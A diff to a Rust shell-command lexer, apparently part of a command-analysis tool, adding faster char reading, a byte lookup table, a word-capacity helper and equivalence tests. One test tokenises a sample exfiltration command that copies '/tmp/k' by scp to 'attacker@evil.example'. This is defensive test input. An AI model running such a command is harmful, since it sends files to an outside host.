@@ -752,6 +752,27 @@ impl<'a> Lexer<'a> {
         (self.ch(p), p)
     }
 
+    /// Skips line continuations and returns the char at the cursor (`None` at the end).
+    /// An ASCII byte other than a backslash starts no continuation and is its own char: it is
+    /// read once, without the continuation check.
+    #[inline(always)]
+    fn next_char(&mut self) -> Option<char> {
+        match self.byte(self.pos) {
+            Some(b) if b.is_ascii() && b != b'\\' => Some(char::from(b)),
+            _ => {
+                self.skip_cont();
+                self.ch(self.pos)
+            }
+        }
+    }
+
+    /// What [`Lexer::next_char`] replaced, for the tests.
+    #[cfg(test)]
+    fn next_char_ref(&mut self) -> Option<char> {
+        self.skip_cont();
+        self.ch(self.pos)
+    }
+
     fn skip_cont(&mut self) {
         while self.is_cont(self.pos) {
             self.pos += 2;
@@ -939,8 +960,7 @@ impl Lexer<'_> {
             self.read_heredoc();
             return;
         }
-        self.skip_cont();
-        let Some(c) = self.ch(self.pos) else {
+        let Some(c) = self.next_char() else {
             self.eof_pop();
             return;
         };
@@ -1804,29 +1824,30 @@ impl Lexer<'_> {
             }
             _ => {}
         }
-        w.text.push(c);
-        w.add_part(Part::Literal(c));
         // Plain word characters right after it would each come back here through one lexer
         // step that does nothing else (no frame, heredoc, continuation or special meaning):
         // take them now, charging the step budget one step each, as the loop would; they
         // are counted as that many literal parts at once ([`WordBuilder::add_literal_run`]).
         // The run is ASCII, so it ends on a char boundary and is appended in one copy. (Without
         // batching the loop brings each char back here: the reference it must equal.)
-        if !self.sh.batch {
-            return;
-        }
         let run_start = self.pos;
-        let limit = self
-            .end
-            .min(src.len())
-            .min(run_start.saturating_add(self.sh.steps_left));
-        let bytes = src.as_bytes();
         let mut q = run_start;
-        while q < limit && bytes.get(q).is_some_and(|&b| is_plain_word_byte(b)) {
-            q += 1;
+        if self.sh.batch {
+            let limit = self
+                .end
+                .min(src.len())
+                .min(run_start.saturating_add(self.sh.steps_left));
+            let bytes = src.as_bytes();
+            while q < limit && bytes.get(q).is_some_and(|&b| is_plain_word_byte(b)) {
+                q += 1;
+            }
         }
         let n = q - run_start;
-        if let Some(&last) = bytes.get(run_start..q).and_then(<[u8]>::last) {
+        // The char and its run in one allocation (see `word_room`).
+        word_room(&mut w.text, c.len_utf8() + n);
+        w.text.push(c);
+        w.add_part(Part::Literal(c));
+        if let Some(&last) = src.as_bytes().get(run_start..q).and_then(<[u8]>::last) {
             self.sh.steps_left -= n;
             self.pos = q;
             if n == 1 {
@@ -1882,8 +1903,7 @@ impl Lexer<'_> {
     }
 
     fn step_dquote(&mut self) {
-        self.skip_cont();
-        let Some(c) = self.ch(self.pos) else {
+        let Some(c) = self.next_char() else {
             self.eof_pop();
             return;
         };
@@ -2222,8 +2242,7 @@ impl Lexer<'_> {
     }
 
     fn step_raw(&mut self) {
-        self.skip_cont();
-        let Some(c) = self.ch(self.pos) else {
+        let Some(c) = self.next_char() else {
             self.eof_pop();
             return;
         };
@@ -2549,6 +2568,22 @@ impl Lexer<'_> {
 // Free helpers
 // ---------------------------------------------------------------------------------------------
 
+/// Bytes a word's text is given when its first literal run is longer than a `String`'s
+/// first allocation (8): most such words then fit in one allocation instead of growing
+/// through a few (`attacker@evil.example:/`), and small allocators serve any size up to it
+/// at the same cost. Shorter runs keep the default (`ls`, `-v`: nothing to gain).
+const WORD_CAP: usize = 24;
+
+/// Room for `add` more bytes in a word's `text` at its first literal run (see
+/// [`WORD_CAP`]); afterwards it grows as a `String` does. (Capacity only: never observable
+/// in the model.)
+#[inline]
+fn word_room(text: &mut String, add: usize) {
+    if add > 8 && text.capacity() == 0 {
+        text.reserve(add.max(WORD_CAP));
+    }
+}
+
 fn make_word(
     text: String,
     span: Span,
@@ -2578,6 +2613,30 @@ fn is_compound_opener(word: &str) -> bool {
 
 /// Bytes that continue a word with no special meaning (see `Lexer::literal`).
 fn is_plain_word_byte(b: u8) -> bool {
+    PLAIN_WORD_BYTES
+        .get(usize::from(b))
+        .copied()
+        .unwrap_or(false)
+}
+
+/// [`is_plain_word_byte`] as a table (one load per byte of a word's run).
+const PLAIN_WORD_BYTES: [bool; 256] = {
+    let mut t = [false; 256];
+    let mut b = 0;
+    while b < 256 {
+        #[expect(clippy::cast_possible_truncation, reason = "b < 256")]
+        let c = b as u8;
+        #[expect(clippy::indexing_slicing, reason = "b < 256 (const context)")]
+        {
+            t[b] = plain_word_byte_ref(c);
+        }
+        b += 1;
+    }
+    t
+};
+
+/// The definition [`PLAIN_WORD_BYTES`] tabulates.
+const fn plain_word_byte_ref(b: u8) -> bool {
     b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'/' | b':' | b'+' | b'@' | b'%')
 }
 
@@ -2599,7 +2658,27 @@ fn default_fd(kind: RedirectKind) -> Option<u32> {
 }
 
 /// `NAME`, `NAME+`, `NAME[sub]`, `NAME[sub]+` (text before an assignment's `=`).
+///
+/// Byte by byte: a name is ASCII, and no byte of a non-ASCII char is an ASCII letter, digit,
+/// `_` or `[` (what [`valid_assign_lhs_ref`], char by char, checks).
 fn valid_assign_lhs(text: &str) -> bool {
+    let t = text.as_bytes();
+    let t = t.strip_suffix(b"+").unwrap_or(t);
+    let (name, sub) = match t.iter().position(|&b| b == b'[') {
+        Some(i) => t.split_at(i),
+        None => (t, &[][..]),
+    };
+    let Some((&first, rest)) = name.split_first() else {
+        return false;
+    };
+    (first == b'_' || first.is_ascii_alphabetic())
+        && rest.iter().all(|&b| b == b'_' || b.is_ascii_alphanumeric())
+        && (sub.is_empty() || sub.len() >= 2 && sub.ends_with(b"]"))
+}
+
+/// What [`valid_assign_lhs`] replaced (char by char), for the tests.
+#[cfg(test)]
+fn valid_assign_lhs_ref(text: &str) -> bool {
     let t = text.strip_suffix('+').unwrap_or(text);
     let (name, sub) = match t.find('[') {
         Some(i) => (t.get(..i).unwrap_or(""), t.get(i..)),
@@ -2674,6 +2753,133 @@ mod tests {
         let inner = lx("echo `echo $A\\\nB`");
         let nested = &inner.commands[0].nested[0].script.commands[0];
         assert_eq!(nested.argv[1].text, "$AB");
+    }
+
+    /// The table says of every byte what its definition says.
+    #[test]
+    fn the_plain_word_byte_table_is_its_definition() {
+        for b in 0..=u8::MAX {
+            assert_eq!(is_plain_word_byte(b), plain_word_byte_ref(b), "{b:#04x}");
+        }
+        assert!(is_plain_word_byte(b'a') && is_plain_word_byte(b'%'));
+        assert!(
+            !is_plain_word_byte(b'.') && !is_plain_word_byte(b'$') && !is_plain_word_byte(0xC3)
+        );
+    }
+
+    /// The byte-wise assignment-name check says what the char-wise one said, for every
+    /// word of every corpus and for random texts over the bytes that matter.
+    #[test]
+    fn assignment_names_are_checked_as_before() {
+        let mut texts: Vec<String> = crate::analysis::shell::rules::testing::corpus_texts()
+            .into_iter()
+            .chain(crate::testing::secret_texts())
+            .chain(crate::testing::fuzz_regression_texts())
+            .flat_map(|t| {
+                let lexed = lx(&t);
+                let mut words = vec![t];
+                for c in &lexed.commands {
+                    words.extend(c.argv.iter().map(|w| w.text.clone()));
+                }
+                words
+            })
+            .collect();
+        for w in texts.clone() {
+            if let Some((lhs, _)) = w.split_once('=') {
+                texts.push(lhs.to_owned());
+            }
+        }
+        for t in &texts {
+            assert_eq!(valid_assign_lhs(t), valid_assign_lhs_ref(t), "{t:?}");
+        }
+        let alphabet = [
+            "a", "Z", "_", "0", "9", "[", "]", "+", "é", "ß", "-", "=", " ", "\u{0660}",
+        ];
+        let mut rng = Rng(0x5eed_1234_abcd_0001);
+        for _ in 0..20_000 {
+            let n = rng.below(8);
+            let t: String = (0..n)
+                .map(|_| alphabet[rng.below(alphabet.len())])
+                .collect();
+            assert_eq!(valid_assign_lhs(&t), valid_assign_lhs_ref(&t), "{t:?}");
+        }
+        for (t, ok) in [
+            ("A", true),
+            ("_a1", true),
+            ("a+", true),
+            ("a[1]+", true),
+            ("1a", false),
+            ("a[", false),
+            ("é", false),
+            ("", false),
+            ("+", false),
+        ] {
+            assert_eq!(valid_assign_lhs(t), ok, "{t:?}");
+        }
+    }
+
+    /// `next_char` finds what skipping continuations then reading the char found, and leaves
+    /// the cursor where that left it, at every char boundary of every corpus text (and of
+    /// texts full of continuations and multi-byte chars), whatever the scanning bound.
+    #[test]
+    fn next_char_is_skip_cont_then_ch() {
+        let mut texts = crate::analysis::shell::rules::testing::corpus_texts();
+        texts.extend(crate::testing::secret_texts());
+        texts.extend(crate::testing::fuzz_regression_texts());
+        texts.extend(
+            [
+                "a\\\nb", "\\\n\\\n", "\\", "é\\\né", "x\\\r\n", "\\\n", "", "ü",
+            ]
+            .map(String::from),
+        );
+        let mut checked = 0usize;
+        for t in &texts {
+            let shared = Shared {
+                tokens: 0,
+                rescan_budget: 0,
+                steps_left: 0,
+                stopped: false,
+                batch: true,
+            };
+            let mut a = Lexer::new(t, Vec::new(), LexLimits::default(), 0, shared);
+            let mut b = Lexer::new(t, Vec::new(), LexLimits::default(), 0, shared);
+            let ends: Vec<usize> = [t.len(), t.len() / 2]
+                .into_iter()
+                .filter(|&e| t.is_char_boundary(e))
+                .collect();
+            for end in ends {
+                for p in (0..=t.len()).filter(|&p| t.is_char_boundary(p) && p <= end) {
+                    (a.pos, a.end, b.pos, b.end) = (p, end, p, end);
+                    assert_eq!(a.next_char(), b.next_char_ref(), "{t:?} at {p} to {end}");
+                    assert_eq!(a.pos, b.pos, "{t:?} at {p} to {end}");
+                    checked += 1;
+                }
+            }
+        }
+        assert!(checked > 10_000, "{checked}");
+    }
+
+    /// A word's first literal run sizes its text; the text is the same whatever the size.
+    #[test]
+    fn word_text_room_changes_capacity_only() {
+        let mut t = String::new();
+        word_room(&mut t, 3);
+        assert_eq!(t.capacity(), 0, "a short run keeps the default growth");
+        word_room(&mut t, 13);
+        assert!(t.capacity() >= WORD_CAP);
+        t.push_str("attacker@evil");
+        word_room(&mut t, 40);
+        assert!(t.capacity() < 40, "only the first allocation is sized");
+        let s = lx("scp /tmp/k attacker@evil.example:/ https://example.com/install.sh");
+        assert_eq!(
+            argvs(&s),
+            [[
+                "scp",
+                "/tmp/k",
+                "attacker@evil.example:/",
+                "https://example.com/install.sh"
+            ]]
+        );
     }
 
     proptest::proptest! {
